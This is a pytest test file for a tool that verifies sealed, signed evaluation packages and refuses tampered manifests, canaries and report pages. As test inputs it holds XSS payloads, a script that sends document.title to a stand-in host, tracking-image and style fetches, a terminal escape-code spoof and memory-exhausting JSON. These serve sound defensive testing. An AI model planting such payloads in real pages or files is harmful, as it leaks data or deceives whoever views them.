    assert code == 2 and "Traceback" not in err and err.count("\n") == 1, err
    bz = tmp_path / "bz.zip"
    with zipfile.ZipFile(bz, "w", zipfile.ZIP_LZMA) as zf:  # a decoder with its own appetite
        zf.writestr("manifest.json", b"{}")
    code, err = _verify_cli(bz, capsys)
    assert code == 2 and "compression method 14" in err


# ---------------------------------------------------------------- manifest-only edits


def _resealed(src: Path, dst: Path, manifest: dict, change: dict[str, bytes] | None = None) -> Path:
    """`src` with `change` and `manifest` (its hashes following `change`), sealed again: the
    careful forger's package, refused only by what the fields' shapes or a digest catch."""
    from package.format import manifest_digest

    change = dict(change or {})
    for name, data in change.items():
        manifest["sha256"][name] = hashlib.sha256(data).hexdigest()
    seal = json.dumps({"manifest_sha256": manifest_digest(manifest)}).encode()
    manifest["sha256"]["seal.json"] = hashlib.sha256(seal).hexdigest()
    return _rewrite(src, dst, rehash=False,
                    change={**change, "manifest.json": json.dumps(manifest).encode(),
                            "seal.json": seal})


def _loosen(m: dict) -> None:
    m["canary"]["drift_limits"] = {"criteria_agreement_min": 0.5, "overall_mad_max": 0.5}


MANIFEST_EDITS = {  # edit, words of the refusal, refused even when the seal is rewritten too
    "drift limits 0.9/0.05 -> 0.5/0.5": (_loosen, "edited after freeze", False),
    "heldout_looks emptied": (lambda m: m.update(heldout_looks=[]), "heldout_looks", True),
    "<script> in tool_version": (lambda m: m.update(tool_version="<script>alert(1)</script>"),
                                 "tool_version", True),
    "an unknown key": (lambda m: m.update(note="trust me"), "unknown field 'note'", True),
    "created_at changed": (lambda m: m.update(created_at="2020-01-01T00:00:00+00:00"),
                           "edited after freeze", False),
    "created_at not a time": (lambda m: m.update(created_at="yesterday"), "created_at", True),
    "canary seed changed": (lambda m: m["canary"].update(seed=7), "edited after freeze", False),
    "validation_terms claiming a protocol as strict as the default": (
        lambda m: m["validation_terms"].update(weaker=[], weaker_than_default=None),
        "validation_terms are not the terms of protocol.json", True),
    "a key of 100,000 characters and a line break in sha256": (
        lambda m: m["sha256"].update({"k" * 100_000 + "\n": 5}), "manifest.json sha256.'kkk", True),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", list(MANIFEST_EDITS))
def test_a_manifest_only_edit_is_refused_with_and_without_the_digest(frozen_package, what,
                                                                     tmp_path: Path,
                                                                     capsys) -> None:
    good, digest = frozen_package
    edit, needle, structural = MANIFEST_EDITS[what]
    m = _manifest(good)
    edit(m)
    edited = _rewrite(good, tmp_path / "edited.zip", change={"manifest.json": json.dumps(m).encode()})
    for extra in ((), ("--sha256", digest)):
        code, err = _verify_cli(edited, capsys, *extra)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, (extra, err)
        assert (needle if not extra else "not the published") in err, err
    # A careful forger rewrites seal.json and its hash as well: a malformed field is still
    # refused; a well-formed one only the published digest (or a signature) can catch.
    resealed = _resealed(good, tmp_path / "resealed.zip", m)
    code, err = _verify_cli(resealed, capsys)
    if structural:
        assert code == 2 and err.count("\n") == 1 and needle in err, err
    else:
        assert code == 0, err
    code, err = _verify_cli(resealed, capsys, "--sha256", digest)
    assert code == 2 and "not the published" in err


def test_verify_and_the_summary_carry_the_terms_and_older_packages_verify_without(
        frozen_package, tmp_path: Path, capsys) -> None:
    """The package's protocol (the factory's: Alt-Test not required, few held-out cases) is weaker
    than the default: verify and the grade summary print its terms; a package frozen before
    terms were recorded (the manifest without them, sealed) verifies and says so."""
    good, _ = frozen_package
    recorded = _manifest(good)["validation_terms"]
    assert main(["package", "verify", str(good)]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["validation_terms"] == recorded["text"]
    assert shown["weaker_than_default"].startswith("weaker than the default protocol: alt_test "
                                                   "not required")
    for words in ("rule lower_bound", "lower bounds of 95% intervals", "Pearson r ≥ 0.9",
                  "ICC(2,1) ≥ 0.75", "(not required)", "held-out items in", "fewer than the "
                  "planner's 67", "accepted at registration"):
        assert words in shown["validation_terms"], words
    result = summary(verify(good), [])
    assert result["validation_terms"] == recorded["text"]
    assert "weaker than the default protocol" in summary_markdown(result)
    m = _manifest(good)
    del m["validation_terms"]
    older = _resealed(good, tmp_path / "older.zip", m)
    assert main(["package", "verify", str(older)]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["validation_terms"] == "terms not recorded" and shown["weaker_than_default"] is None
    assert summary(verify(older), [])["validation_terms"] == "terms not recorded"


@pytest.mark.slow
@pytest.mark.parametrize("member", ["tasks.jsonl", "report.json"])
def test_json_members_dense_with_values_are_refused_before_parsing(frozen_package, member,
                                                                   tmp_path: Path) -> None:
    """Within the caps a member may be one line of `[],[],...` (63 MiB of tasks.jsonl, 22
    million lists; report.json 15 MiB of `{},...`), rehashed and resealed (deflated, a file of
    160 KB): verify parsed it in 1.9 GB and 17 s (MemoryError under `ulimit -v` 2 GiB).
    Counted before parsing: one line, exit 2, peak under 500 MB."""
    good, _ = frozen_package
    with zipfile.ZipFile(good) as zf:
        before = zf.read(member)
    dense = (before + b"[" + b"[]," * (21 * MiB) + b"[]]\n" if member == "tasks.jsonl"
             else b"[" + b"{}," * (5 * MiB) + b"{}]")
    pkg = _resealed(good, tmp_path / "dense.zip", _manifest(good), {member: dense})
    code, err, peak = _verify_child(pkg)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
    assert f"more than 1,000,000 values (arrays, objects and items; {member} reaches it)" in err
    assert peak < 500 * 10**6, peak


FORGED_LINE = "x\nnmb: verified \x1b[32mOK\x1b[0m " + "y" * 5000


def test_text_from_a_package_or_responses_file_is_quoted_escaped_and_cut(frozen_package,
                                                                         tmp_path: Path,
                                                                         capsys) -> None:
    """A canary item's id, or a response's id, task or model, holding a line break and a
    terminal's escape code: the refusal quoted it raw (a second line, "nmb: verified OK" in
    green, 5,000 characters; the model and a repeated id escaped but whole). Quoted now:
    escaped, cut, on the refusal's one line."""
    good, _ = frozen_package
    with zipfile.ZipFile(good) as zf:
        first, *rest = zf.read("canary.jsonl").decode().splitlines(keepends=True)
    row = json.loads(first) | {"response_id": FORGED_LINE, "text": "Another answer."}
    forged = _resealed(good, tmp_path / "forged.zip", _manifest(good),
                       {"canary.jsonl": "".join([json.dumps(row) + "\n", *rest]).encode()})
    code, err = _verify_cli(forged, capsys)
    refusals = [(code, err)]
    lines = tmp_path / "new.jsonl"
    answer = {"response_id": "r1", "task_id": "task0", "text": "MS."}
    for rows in ([answer | {"response_id": FORGED_LINE, "task_id": "task99"}],
                 [answer | {"task_id": FORGED_LINE}], [answer | {"model": FORGED_LINE}],
                 [answer | {"response_id": FORGED_LINE}] * 2):
        lines.write_text("".join(json.dumps(r) + "\n" for r in rows))
        code = main(["package", "grade", str(good), str(lines), "--out", str(tmp_path / "s.jsonl"),
                     "--base-url", "http://127.0.0.1:9/v1"])
        err = capsys.readouterr().err
        assert err.startswith("nmb: verified "), err  # its own line, then the refusal's
        refusals.append((code, err.split("\n", 1)[1]))
    for code, err in refusals:
        assert code == 2 and err.count("\n") == 1 and "'x\\nnmb: verified \\x1b[32mOK" in err, err
        assert "\x1b" not in err and len(err) < 400, err


def _with_canary(good: Path, dst: Path, edit) -> Path:
    """`good` with `edit(row)` applied to every canary line, resealed."""
    with zipfile.ZipFile(good) as zf:
        rows = [json.loads(x) for x in zf.read("canary.jsonl").splitlines()]
    for row in rows:
        edit(row)
    return _resealed(good, dst, _manifest(good),
                     {"canary.jsonl": "".join(json.dumps(r) + "\n" for r in rows).encode()})


def _shuffled_levels(body: dict) -> str:
    """The test server's grade with each criterion's level moved to the next criterion: the
    same overall score (the rubric's weights are equal), other levels."""
    seed = int(hashlib.sha256(_canonical(body).encode()).hexdigest()[:8], 16)
    grade = sample_document(_schema_of(body), seed)
    keys, levels = list(grade["criteria"]), list(grade["criteria"].values())
    grade["criteria"] = dict(zip(keys, levels[1:] + levels[:1], strict=True))
    return json.dumps(grade)


def test_a_canary_whose_frozen_grades_no_grader_gave_is_refused(frozen_package, tmp_path: Path,
                                                                capsys) -> None:
    """A lying canary.jsonl, resealed: frozen grades without criterion levels made the
    agreement of levels, half the drift check, unmeasured ("ok" for a grader whose levels all
    moved); an overall score that is not its levels', levels beyond the scale or criteria the
    rubric does not have. Each frozen grade must be one the rubric gives for its task."""
    good, _ = frozen_package
    lies = {
        "no levels": lambda r: r["frozen"].update(criteria={}),
        "overall not its levels'": lambda r: r["frozen"].update(overall=0.123),
        "a level beyond the scale": lambda r: r["frozen"]["criteria"].update(
            {next(iter(r["frozen"]["criteria"])): 99}),
        "an unknown criterion": lambda r: r["frozen"]["criteria"].update(spelling=3),
        "an unknown error class": lambda r: r["frozen"].update(error_tags=["luck"]),
    }
    for what, edit in lies.items():
        code, err = _verify_cli(_with_canary(good, tmp_path / "lie.zip", edit), capsys)
        assert code == 2 and err.count("\n") == 1 and "frozen grade" in err, (what, err)
    with OpenAIServer() as srv:  # levels moved, overall kept: the honest canary says drift
        srv.answer = _shuffled_levels
        assert canary(verify(good), base_url=srv.base_url, api_key=KEY)["drift"]


def test_a_task_of_a_family_the_rubric_lacks_is_refused_by_verify(frozen_package,
                                                                  tmp_path: Path,
                                                                  capsys) -> None:
    """Verify passed a task whose family the rubric does not have, then grade refused it."""
    good, _ = frozen_package
    with zipfile.ZipFile(good) as zf:
        rows = [json.loads(x) for x in zf.read("tasks.jsonl").splitlines()]
        canary_tasks = {json.loads(x)["task_id"] for x in zf.read("canary.jsonl").splitlines()}
    other = next(r for r in rows if r["task_id"] not in canary_tasks)
    other["family"] = "astrology\n"
    forged = _resealed(good, tmp_path / "family.zip", _manifest(good),
                       {"tasks.jsonl": "".join(json.dumps(r) + "\n" for r in rows).encode()})
    code, err = _verify_cli(forged, capsys)
    assert code == 2 and err.count("\n") == 1, err
    assert f"tasks.jsonl line {rows.index(other) + 1}: family 'astrology\\n' is not" in err, err


@pytest.mark.slow
def test_rebuilding_the_canary_costs_what_it_did_in_the_study(frozen_package,
                                                               tmp_path: Path) -> None:
    """Verify rebuilds every canary request. A forged task with a 50 MiB record (deflated, a
    file of 145 KB) and 200 copies of one canary item (one request hash for all) took 55 s
    (0.27 s each; the 1,000,000 values allowed hold 58,000 such items: 4 hours); a reference
    differential of numbers was a TypeError traceback. Fields now have the study's types and
    limits (`db.text_limits`: a record 1,000,000 characters) and a canary at most 500 items
    (the /calibrate page's most): each package is refused at once, in one line."""
    good, _ = frozen_package
    pkg = verify(good)
    with zipfile.ZipFile(good) as zf:
        tasks = [json.loads(x) for x in zf.read("tasks.jsonl").splitlines()]
        item = json.loads(zf.read("canary.jsonl").splitlines()[0])
    task = next(t for t in tasks if t["task_id"] == item["task_id"])
    task["case"]["ehr"] = pkg.tasks[item["task_id"]][1].ehr = "a" * 50 * MiB
    answer = Answer(item["response_id"], item["task_id"], item["text"], item["turns"] or [])
    item["request_hash"] = request_for(pkg, answer).request_hash
    rows = [item | {"response_id": f"c{i}"} for i in range(501)]

    def package(name: str, tasks: list, rows: list) -> Path:
        m = _manifest(good)
        m["canary"]["items"] = len(rows)
        return _resealed(good, tmp_path / name, m, {
            "tasks.jsonl": "".join(json.dumps(t) + "\n" for t in tasks).encode(),
            "canary.jsonl": "".join(json.dumps(r) + "\n" for r in rows).encode()})
    slow = package("slow.zip", tasks, rows[:200])
    task["case"]["ehr"] = "Synthetic record."
    task["case"]["ground_truth"]["differential"] = [1, 2]
    numbers = package("numbers.zip", tasks, rows[:1])
    del task["case"]["ground_truth"]["differential"]
    many = package("many.zip", tasks, rows)
    for pkg, needle in ((slow, "case.ehr: string should have at most 1000000 characters"),
                        (numbers, "case.ground_truth.differential[0]: input should be a valid "
                                  "string"),
                        (many, "canary.items: input should be less than or equal to 500")):
        out = subprocess.run([sys.executable, "-m", "cli", "package", "verify", str(pkg)],
                             cwd=ROOT, capture_output=True, text=True, timeout=30)
        assert out.returncode == 2 and out.stderr.count("\n") == 1, out.stderr
        assert needle in out.stderr, out.stderr


# ---------------------------------------------------------------- a canary that could not check


@pytest.mark.slow
def test_a_canary_that_reaches_no_server_could_not_check(sqlite_url: str, server: OpenAIServer,
                                                         tmp_path: Path) -> None:
    """Every request refused at connect (a closed port): exit 3 and "could not check", never
    drift; the first reason on one stderr line."""
    _frozen(sqlite_url, server, tmp_path / "g.zip", canary_size=12)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # closed when the block ends: connections are refused
    out = subprocess.run([sys.executable, "-m", "cli", "package", "canary", str(tmp_path / "g.zip"),
                          "--base-url", f"http://127.0.0.1:{port}/v1", "--concurrency", "12"],
                         cwd=ROOT, env={**os.environ, "OPENAI_API_KEY": KEY},
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 3, out.stderr
    result = json.loads(out.stdout)
    assert result["status"] == "could not check" and result["drift"] is None
    assert result["unreached"] == result["items"] == 12 and result["failed"] == 0
    last = out.stderr.splitlines()[-1]
    assert "could not check: 12 of 12 requests got no answer (connection error" in last
    assert "Traceback" not in out.stderr and KEY not in out.stdout + out.stderr


@pytest.mark.slow
def test_canary_status_under_server_errors(sqlite_url: str, server: OpenAIServer,
                                           tmp_path: Path) -> None:
    """Unreached items (HTTP errors after retries) are never drift; answers that changed or
    failed are, when at least half the canary was answered."""
    _frozen(sqlite_url, server, tmp_path / "g.zip", canary_size=12)
    pkg = verify(tmp_path / "g.zip")

    def run() -> dict:
        result = canary(pkg, base_url=server.base_url, api_key=KEY, concurrency=12)
        server.clear_faults()
        return result

    def unreach(n: int) -> None:  # the first n canary items answer HTTP 400
        for c in pkg.canary[:n]:
            server.inject_when(json.dumps(c["text"])[1:-1], "400")

    server.inject_when("", "500")  # every request, every retry: a server that is down
    down = run()
    assert (down["status"], down["drift"], down["unreached"]) == ("could not check", None, 12)
    assert all("HTTP 500" in i["reason"] for i in down["per_item"])
    unreach(1)  # one unreached, the rest unchanged: no drift can be claimed for all
    assert run()["status"] == "could not check"
    assert run()["status"] == "ok"  # the faults cleared
    server.answer = lambda body: json.dumps(sample_document(_schema_of(body), 12345))
    unreach(1)  # one unreached, 11 answered and changed: drift
    changed = run()
    assert (changed["status"], changed["drift"], changed["unreached"]) == ("drift", True, 1)
    unreach(7)  # most unreached: whatever the others say, the canary could not check
    assert run()["status"] == "could not check"
    server.answer = None
    server.inject_when("", "badschema")  # reached, answers invalid: the model changed
    invalid = run()
    assert (invalid["status"], invalid["failed"], invalid["unreached"]) == ("drift", 12, 0)


# ---------------------------------------------------------------- signatures


@pytest.mark.slow
def test_a_signed_package_is_checked_against_the_study_key(sqlite_url: str,
                                                           server: OpenAIServer,
                                                           tmp_path: Path, capsys) -> None:
    """keygen, freeze --sign, verify --public-key: a forgery consistent with every internal
    check (manifest edited, seal rewritten) is refused by the key alone, without a digest."""
    assert main(["package", "keygen", "--out", str(tmp_path / "study.key")]) == 0
    line = json.loads(capsys.readouterr().out)["public_key"]
    assert (tmp_path / "study.pub").read_text().strip() == line
    assert (tmp_path / "study.key").stat().st_mode & 0o777 == 0o600
    assert main(["package", "keygen", "--out", str(tmp_path / "study.key")]) == 2
    assert "exists" in capsys.readouterr().err
    assert main(["package", "keygen", "--out", str(tmp_path / "other.key")]) == 0
    capsys.readouterr()
    pub, other = str(tmp_path / "study.pub"), str(tmp_path / "other.pub")

    signed, unsigned = tmp_path / "signed.zip", tmp_path / "unsigned.zip"
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        cid = validated_config(s, server.base_url, api_key=KEY)
        freeze(s, config_id=cid, out=signed, canary_size=3, sign_with=tmp_path / "study.key")
        freeze(s, config_id=cid, out=unsigned, canary_size=3)
        with pytest.raises(UserError, match="not an unencrypted PEM private key"):
            freeze(s, config_id=cid, out=tmp_path / "x.zip", sign_with=tmp_path / "study.pub")
    assert not (tmp_path / "x.zip").exists()
    assert main(["package", "verify", str(signed), "--public-key", pub]) == 0
    out = capsys.readouterr()
    assert json.loads(out.out)["signed_by"] == line and f"signed by {line}" in out.err
    assert _verify_cli(signed, capsys)[0] == 0  # without a key: the internal checks only

    m = _manifest(signed)
    _loosen(m)
    forged = _resealed(signed, tmp_path / "forged.zip", m)
    assert _verify_cli(forged, capsys)[0] == 0  # consistent: only the key or digest tells
    refusals = {
        "forged": (forged, pub, "is not a signature of manifest.json by nmb-ed25519"),
        "other key": (signed, other, "is not a signature"),
        "unsigned": (unsigned, pub, "is not signed"),
        "signature removed": (_rewrite(signed, tmp_path / "nosig.zip",
                                       change={"manifest.sig": None}), pub, "is not signed"),
        "not a key": (signed, str(tmp_path / "study.key"), "expected one line"),
    }
    for what, (pkg, key, needle) in refusals.items():
        code, err = _verify_cli(pkg, capsys, "--public-key", key)
        assert code == 2 and err.count("\n") == 1 and needle in err, (what, err)


def test_a_member_of_the_wrong_shape_names_each_wrong_field_on_one_line() -> None:
    from package.members import MAX_SHOWN, TaskRow, checked

    row = {"task_id": "t1", "case_id": "c1", "family": "lesion", "level": "2", "prompt": "p",
           "stages": None, "case": {"case_id": "c1", "title": "T", "ehr": "", "scores": None,
                                    "ground_truth": [], "note": 1}}
    with pytest.raises(UserError) as info:
        checked("p.zip", "tasks.jsonl line 3", row, TaskRow)
    assert str(info.value) == (
        "p.zip: tasks.jsonl line 3 level: input should be a valid integer; "
        "tasks.jsonl line 3 case.ground_truth must be a JSON object; "
        "tasks.jsonl line 3 case has unknown field 'note'")
    hostile = {**row, **{f"x{i}": i for i in range(10_000)}}
    with pytest.raises(UserError) as info:
        checked("p.zip", "tasks.jsonl line 3", hostile, TaskRow)
    message = str(info.value)
    assert "\n" not in message and message.count(";") == MAX_SHOWN
    assert message.endswith(f"and {10_003 - MAX_SHOWN} more")


def test_a_frozen_overall_that_is_not_a_finite_number_is_refused(frozen_package, tmp_path: Path,
                                                                  capsys) -> None:
    """NaN (which Python's JSON reader accepts) would make every drift of the overall score
    compare as no drift."""
    good, _ = frozen_package
    with zipfile.ZipFile(good) as zf:
        first, *rest = zf.read("canary.jsonl").decode().split("\n")
    for value in (float("nan"), float("inf")):
        row = json.loads(first)
        row["frozen"]["overall"] = value
        canary = "\n".join([json.dumps(row), *rest]).encode()
        pkg = _resealed(good, tmp_path / "nan.zip", _manifest(good), {"canary.jsonl": canary})
        code, err = _verify_cli(pkg, capsys)
        assert code == 2 and err.count("\n") == 1, err
        assert "canary.jsonl line 1 frozen.overall: input should be a finite number" in err, err


def test_a_gate_named_by_a_list_is_one_line(frozen_package, tmp_path: Path, capsys) -> None:
    """A report.json whose gate names a statistic by a list or an object (resealed): a
    TypeError traceback (unhashable type) before."""
    good, _ = frozen_package
    with zipfile.ZipFile(good) as zf:
        report = json.loads(zf.read("report.json"))
    for name in ([], {}):
        report["gate"][0]["name"] = name
        forged = _resealed(good, tmp_path / "gate.zip", _manifest(good),
                           {"report.json": json.dumps(report).encode()})
        code, err = _verify_cli(forged, capsys)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
        assert "report.json is not a calibration report" in err, err


def test_a_look_is_suspended_by_true_not_by_one() -> None:
    """As the checker before the models: `suspended` is true or absent; 1 and 1.0 equal True
    in Python, and a Literal[True] took them."""
    from package.members import Look, checked

    look = {"config_id": 1, "passed": True, "revoked": False}
    assert checked("p.zip", "look", {**look, "suspended": True}, Look).suspended is True
    for value in (1, 1.0, "true"):
        with pytest.raises(UserError, match=r"^p.zip: look suspended: is not true$"):
            checked("p.zip", "look", {**look, "suspended": value}, Look)


REPORT_PAGE_EDITS = {  # each resealed: only the page's own check can refuse it
    "a script": (("</h1>", "</h1><script>fetch('https://x.example/?'+document.title)</script>"),
                 "a <script> element"),
    "an event handler": (("<img alt=", "<img onerror=alert(1) alt="),
                         "the attribute onerror on <img>"),
    "a tracking image": (('src="data:image/png;base64,', 'src="https://x.example/p.png?'),
                         "an image that is not a PNG data URL"),
    "an imported style": (("<style>", "<style>@import 'https://x.example/a.css';"),
                          "a style that imports, fetches or escapes"),
    "a fetching style": (("body{", "body{background:url(https://x.example/p.png);"),
                         "a style that imports"),
    "a link": (("</h1>", "</h1><a href=https://x.example>the full report</a>"), "a <a> element"),
    "a comment": (("</h1>", "</h1><!--[if IE]><script>x</script><![endif]-->"),
                  "a tag that is not one"),
    "a stray bracket": (("</h1>", "</h1>1 < 2"), "a stray '<' outside a tag"),
}


@pytest.mark.parametrize("what", list(REPORT_PAGE_EDITS))
def test_a_report_page_that_could_run_or_fetch_is_refused(frozen_package, what, tmp_path: Path,
                                                          capsys) -> None:
    """report.html is opened in a browser by whoever checks the evidence; a forger reseals any
    page (verified before)."""
    good, _ = frozen_package
    (old, new), needle = REPORT_PAGE_EDITS[what]
    with zipfile.ZipFile(good) as zf:
        page = zf.read("report.html").decode()
    assert old in page
    forged = _resealed(good, tmp_path / "forged.zip", _manifest(good),
                       {"report.html": page.replace(old, new, 1).encode()})
    code, err = _verify_cli(forged, capsys)
    assert code == 2 and err.count("\n") == 1, err
    assert f"report.html holds {needle}" in err, err
